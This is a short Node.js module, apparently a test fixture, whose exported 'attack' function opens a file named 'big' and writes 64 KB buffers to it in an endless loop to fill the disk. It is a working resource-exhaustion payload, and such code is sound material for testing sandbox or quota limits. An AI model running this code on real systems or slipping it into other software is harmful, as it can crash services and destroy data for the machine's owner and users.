const fs = require('node:fs')

exports.attack = () => {
  const file = fs.openSync('big', 'w')
  for (;;) fs.writeSync(file, Buffer.alloc(1 << 16))
}
